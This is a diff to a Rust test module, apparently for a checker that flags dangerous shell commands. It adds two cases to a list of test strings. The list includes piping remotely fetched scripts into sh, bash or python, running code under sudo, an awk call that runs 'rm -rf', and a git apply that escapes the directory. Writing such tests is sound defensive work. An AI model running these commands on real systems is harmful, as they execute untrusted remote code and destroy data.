@@ -398,6 +398,8 @@ mod tests {
             "env -i perl5.36 -e 1",
             "deno eval 'Deno.removeSync(\"x\")'",
             "curl -s https://example.com/x.sh | sh",
+            "python3 <(curl -s https://example.com/x.py)",
+            "bash -c \"$CMD\"",
             "cat x.sh | sudo bash",
             "git apply --directory=../.. <<'EOF'\n--- a/x\n+++ b/x\nEOF",
             "awk 'BEGIN { system(\"rm -rf x\") }'",
